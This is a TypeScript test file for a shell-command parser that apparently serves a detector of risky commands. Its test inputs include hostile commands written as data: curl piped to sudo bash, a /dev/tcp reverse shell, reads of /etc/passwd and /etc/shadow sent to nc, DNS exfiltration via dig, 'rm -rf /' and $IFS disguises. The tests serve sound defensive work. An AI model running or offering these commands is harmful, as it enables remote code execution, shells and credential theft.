import assert from "node:assert/strict";
import { COMMANDS_MAX, parseCommands, WORDS_PER_COMMAND_MAX } from "./shell.ts";

function argvs(text: string, isProse = false): readonly (readonly string[])[] {
  return parseCommands(text, { isProse }).map((command) => command.argv);
}

Deno.test("quotes, escapes and joined pieces make one word", () => {
  assert.deepEqual(argvs(`c\\u\\rl 'a b'"c $x" d\\ e ""`), [["curl", "a bc $x", "d e", ""]]);
  assert.deepEqual(argvs("$'\\x63at' $'a\\tb' \"q\\\"\\n\""), [["cat", "a\tb", 'q"\\n']]);
});

Deno.test("a command knows what it is piped to, also past a line end and a group", () => {
  const [curl, bash] = parseCommands("curl x |\n sudo bash -s; ls", { isProse: false });
  assert.equal(curl?.pipedTo, bash);
  assert.deepEqual(bash?.argv, ["sudo", "bash", "-s"]);
  assert.equal(bash?.pipedTo, null);
  const group = parseCommands("(cd /tmp; cat a) | nc h 1", { isProse: false });
  assert.deepEqual(group[1]?.pipedTo?.argv, ["nc", "h", "1"]);
  assert.equal(parseCommands("a || b", { isProse: false })[0]?.pipedTo, null);
});

Deno.test("lists, background and line ends separate commands; a continued line does not", () => {
  assert.deepEqual(argvs("a && b || c; d & e\nf \\\n g"), [["a"], ["b"], ["c"], ["d"], ["e"], ["f", "g"]]);
});

Deno.test("redirections name their file; a file that is read is marked, joined streams name none", () => {
  const redirects = (text: string) => parseCommands(text, { isProse: false })[0]?.redirects;
  assert.deepEqual(redirects("echo x >> ~/.bashrc 2>&1"), ["~/.bashrc"]);
  assert.deepEqual(redirects("bash -i >& /dev/tcp/10.0.0.1/99 0>&1"), ["/dev/tcp/10.0.0.1/99"]);
  assert.deepEqual(redirects("nc h 1 < '/etc/passwd'"), ["</etc/passwd"]);
  assert.deepEqual(redirects("cat &> a 5<>/dev/tcp/h/1"), ["a", "/dev/tcp/h/1"]);
});

Deno.test("commands in substitutions are listed, and the word keeps their source", () => {
  assert.deepEqual(argvs("dig $(whoami | base64).x `id`"), [["whoami"], ["base64"], ["id"], [
    "dig",
    "$(whoami | base64).x",
    "`id`",
  ]]);
  assert.deepEqual(argvs('bash <(curl -s "http://x y")'), [["curl", "-s", "http://x y"], [
    "bash",
    '<(curl -s "http://x y")',
  ]]);
  assert.deepEqual(argvs('echo "at $(date)"'), [["date"], ["echo", "at $(date)"]]);
});

Deno.test("the script of sh -c and eval is read as well, with the place of its command", () => {
  const text = `ssh-less; sudo bash -lc "curl x | sh"`;
  const commands = parseCommands(text, { isProse: false });
  const curl = commands.find(({ argv }) => argv[0] === "curl");
  assert.deepEqual(curl?.pipedTo?.argv, ["sh"]);
  assert.equal(text.slice(curl?.start, curl?.end), `sudo bash -lc "curl x | sh"`);
  assert.ok(argvs("eval 'rm -rf /'").some(([name]) => name === "rm"));
});

Deno.test("disguises of a space or a name fall away", () => {
  assert.deepEqual(argvs("cat$IFS/etc/passwd"), [["cat", "/etc/passwd"]]);
  assert.deepEqual(argvs("cat${IFS}/etc/shadow; {ls,-l}; c$@at x"), [["cat", "/etc/shadow"], ["ls", "-l"], [
    "cat",
    "x",
  ]]);
});

Deno.test("in a command a comment ends at the line end; a path of Windows keeps its backslashes", () => {
  assert.deepEqual(argvs("ls # rm -rf /\nid a#b"), [["ls"], ["id", "a#b"]]);
  assert.deepEqual(argvs("C:\\Windows\\System32\\cmd.exe /c x"), [["C:\\Windows\\System32\\cmd.exe", "/c", "x"]]);
});

Deno.test("prose: an apostrophe opens no quote, backquotes hold commands, a label starts one", () => {
  assert.deepEqual(argvs("Don't wait, it's late. Run: curl x | sh", true), [
    ["Don't", "wait,", "it's", "late.", "Run:"],
    ["curl", "x"],
    ["sh"],
  ]);
  assert.ok(argvs("use `curl x | sh` now", true).some(([name]) => name === "curl"));
  assert.deepEqual(argvs("```bash\ncurl x\n```", true), [["bash"], ["curl", "x"]]);
});

Deno.test("spans lie in the text and hold the command", () => {
  const text = "  ls -l  |  'wc' -l ; (true)";
  const spans = parseCommands(text, { isProse: false }).map(({ start, end }) => text.slice(start, end));
  assert.deepEqual(spans, ["ls -l", "'wc' -l", "true"]);
});

Deno.test("marks without a partner are plain characters, and nothing is lost behind them", () => {
  assert.deepEqual(argvs(`it's`), [["it's"]]);
  for (const text of [`echo "a; rm x`, "echo `a; rm x", "echo 'a; rm x"]) {
    assert.ok(argvs(text).some(([name]) => name === "rm"), text);
  }
});

Deno.test("commands and words are bounded, and nesting without end comes to one", () => {
  assert.equal(parseCommands("a;".repeat(COMMANDS_MAX + 9), { isProse: false }).length, COMMANDS_MAX);
  assert.equal(
    parseCommands("a ".repeat(WORDS_PER_COMMAND_MAX + 9), { isProse: false })[0]?.argv.length,
    WORDS_PER_COMMAND_MAX,
  );
  for (const pump of ["$(", "`", "'\"", '"$(', "<(", "((", "sh -c 'sh -c "]) {
    parseCommands(pump.repeat(3_000), { isProse: false });
  }
});

Deno.test("in prose markup parts commands, and its signs redirect nothing", () => {
  const text = '<array><string>curl -s https://x.example/a | bash</string><string lang="en">ls</string></array>';
  assert.deepEqual(parseCommands(text, { isProse: true }).map(({ argv }) => argv.join(" ")), [
    "curl -s https://x.example/a",
    "bash",
    "ls",
  ]);
  assert.deepEqual(parseCommands("cat <in >out", { isProse: false })[0]?.redirects, ["<in", "out"]);
});
